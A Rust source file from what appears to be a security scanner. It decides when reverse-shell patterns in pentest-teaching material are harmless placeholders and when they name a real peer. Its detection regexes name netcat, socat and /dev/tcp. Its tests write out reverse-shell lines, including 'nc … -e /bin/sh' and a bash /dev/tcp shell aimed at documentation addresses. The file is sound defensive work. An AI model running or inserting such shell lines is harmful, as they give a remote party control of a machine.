//! Where a shell goes, read from the block it stands in (precision80: the
//! pentest-teaching skills of sweep 80). A reverse shell hands this
//! machine to a peer; three readings of the `reverse-shell` rows' hits
//! name no peer at all, and teach rather than arm:
//!
//! - a TTY upgrade (`python3 -c 'import pty; pty.spawn("/bin/bash")'`)
//!   in a block that opens no connection: it gives a shell already held a
//!   terminal, it reaches no one;
//! - a shell written across lines in a Markdown example whose every peer
//!   is a blank (`s.connect(("ATTACKER_IP", PORT))`), as the one-line
//!   forms with a placeholder already warn (SEC-4);
//! - a sentence naming the technique's parts in separate code spans
//!   ("phrases like `bash -i` or `/dev/tcp/`"), with no host between.
//!
//! A peer written out (`"203.0.113.5"`, `evil.example.net`), one peer
//! line among blanks, or a bind shell (no peer line, a listening socket)
//! still blocks.

use std::sync::LazyLock;

use regex::Regex;

/// A line that names where a connection goes: a connect call, bash's
/// `/dev/tcp/`, PHP's `fsockopen`, .NET's `TCPClient`, netcat or socat
/// given a host.
static PEER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\.connect\(|/dev/(?:tcp|udp)/|\bfsockopen\(|\bTCPClient\(|\bTCPSocket\.(?:new|open)\(|\bcreate_connection\(|\b(?:nc|ncat|netcat|socat|telnet)\s")
        .expect("peer regex")
});

/// Anything that opens or names a connection: a block holding one is no
/// bare TTY upgrade.
static CONNECTION: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\bsocket\b|\bconnect\(|/dev/(?:tcp|udp)/|\bfsockopen\(|\bTCP(?:Client|Socket)\b|\b(?:nc|ncat|netcat|socat|telnet)\s|\.accept\(|\.listen\(")
        .expect("connection regex")
});

/// A peer written out: an IPv4 address, or a quoted or bare domain name.
static WRITTEN_PEER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\b\d{1,3}(?:\.\d{1,3}){3}\b|\b[a-z0-9-]+(?:\.[a-z0-9-]+)*\.(?:com|net|org|io|dev|xyz|ru|cn|top|sh|me|app|cc|co|info|biz|site|online)\b")
        .expect("written peer regex")
});

/// Whether `matched` is a TTY upgrade (`pty.spawn(…)`) in a block of
/// `block` lines that opens no connection.
pub fn tty_upgrade_alone<'a>(matched: &str, mut block: impl Iterator<Item = &'a str>) -> bool {
    matched.starts_with("pty.spawn") && !block.any(|line| CONNECTION.is_match(line))
}

/// A blank written where the peer goes: a quoted placeholder as the
/// connect call's own host (`connect(("ATTACKER_IP", …`, `fsockopen('<ip>'`),
/// or one in bash's `/dev/tcp/` path or as netcat's host. A variable
/// (`HOST`, `$LHOST`) or a value looked up (`os.environ["HOST"]`) is no
/// blank: the skill or its environment sets it.
static BLANK_PEER: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"(?i)\b(?:connect|fsockopen|TCPClient|TCPSocket\.(?:new|open)|create_connection)\(\(?\s*['\x22]\s*(?:<[^<>\n]*>|(?-i:[A-Z][A-Z0-9_]*))\s*['\x22]|/dev/(?:tcp|udp)/(?:<[^<>\n]*>|(?-i:[A-Z][A-Z0-9_]*))/|\b(?:nc|ncat|netcat)\s+(?:-\w+\s+)*(?:<[^<>\n]*>|(?-i:[A-Z][A-Z0-9_]*))\s")
        .expect("blank peer regex")
});

/// Whether the block's lines name a peer, every peer they name is a
/// written blank (`is_blank`: the caller's placeholder test, and
/// `BLANK_PEER`'s form, with no variable on the line), and no line of the
/// block writes an address or a domain out (`HOST = "203.0.113.5"` then
/// `s.connect((HOST, PORT))` has its peer).
pub fn every_peer_blank<'a>(
    block: impl Iterator<Item = &'a str> + Clone,
    is_blank: impl Fn(&str) -> bool,
) -> bool {
    let written = |line: &str| WRITTEN_PEER.is_match(&line.to_ascii_lowercase());
    let blank = |line: &str| is_blank(line) && !line.contains('$') && BLANK_PEER.is_match(line);
    let mut peers = block.clone().filter(|line| PEER.is_match(line)).peekable();
    peers.peek().is_some() && peers.all(blank) && !block.into_iter().any(written)
}

/// Whether a prose match runs across code spans (`bash -i` … `/dev/tcp/`)
/// and the line from the match on (`rest`) names no host in
/// `/dev/tcp/HOST/`: the technique's parts, named.
pub fn parts_named_apart(matched: &str, rest: &str) -> bool {
    static HOSTED: LazyLock<Regex> =
        LazyLock::new(|| Regex::new(r"/dev/(?:tcp|udp)/[^\s/`]+/").expect("hosted regex"));
    matched.contains('`') && !HOSTED.is_match(rest)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn blank(line: &str) -> bool {
        line.contains("ATTACKER_IP") || line.contains("LHOST")
    }

    #[test]
    fn a_tty_upgrade_alone_reaches_no_one() {
        let upgrade = [
            "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'",
            "stty raw -echo; fg",
        ];
        assert!(tty_upgrade_alone(
            "pty.spawn(\"/bin/bash",
            upgrade.into_iter()
        ));
        let wired = [
            "s=socket.socket();s.connect((\"203.0.113.5\",4444))",
            "pty.spawn(\"/bin/sh\")",
        ];
        assert!(!tty_upgrade_alone("pty.spawn(\"/bin/sh", wired.into_iter()));
        assert!(!tty_upgrade_alone(
            "os.dup2(s.fileno()",
            upgrade.into_iter()
        ));
    }

    #[test]
    fn a_peer_written_out_or_no_peer_at_all_arms() {
        let taught = [
            "s=socket.socket(socket.AF_INET,socket.SOCK_STREAM)",
            "s.connect((\"ATTACKER_IP\",PORT))",
            "os.dup2(s.fileno(),0)",
        ];
        assert!(every_peer_blank(taught.into_iter(), blank));
        let aimed = taught.map(|l| l.replace("ATTACKER_IP", "203.0.113.5"));
        assert!(!every_peer_blank(aimed.iter().map(String::as_str), blank));
        let named = taught.map(|l| l.replace("ATTACKER_IP\"", "ATTACKER_IP.evil-relay.net\""));
        assert!(!every_peer_blank(named.iter().map(String::as_str), blank));
        let assigned = [
            "HOST = \"203.0.113.5\"",
            "s.connect((HOST, PORT))",
            taught[2],
        ];
        assert!(!every_peer_blank(assigned.into_iter(), |_| true));
        let looked_up = [
            taught[0],
            "s.connect((os.environ[\"HOST\"], 4444))",
            taught[2],
        ];
        assert!(!every_peer_blank(looked_up.into_iter(), |_| true));
        let variable = [taught[0], "s.connect((HOST, PORT))", taught[2]];
        assert!(!every_peer_blank(variable.into_iter(), |_| true));
        let bind = [
            "s.bind((\"0.0.0.0\",4444)); s.listen(1)",
            "os.dup2(c.fileno(),0)",
        ];
        assert!(!every_peer_blank(bind.into_iter(), blank));
        let mixed = [taught[1], "nc 198.51.100.7 4444 -e /bin/sh"];
        assert!(!every_peer_blank(mixed.into_iter(), blank));
    }

    #[test]
    fn parts_named_in_separate_spans_name_no_command() {
        let named = "bash -i` or `/dev/tcp/";
        assert!(parts_named_apart(named, &format!("{named}`, that is text")));
        let whole = "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1";
        assert!(!parts_named_apart(whole, whole));
        let split = "bash -i >&` then `/dev/tcp/";
        assert!(!parts_named_apart(
            split,
            &format!("{split}203.0.113.5/4444 0>&1`")
        ));
    }
}
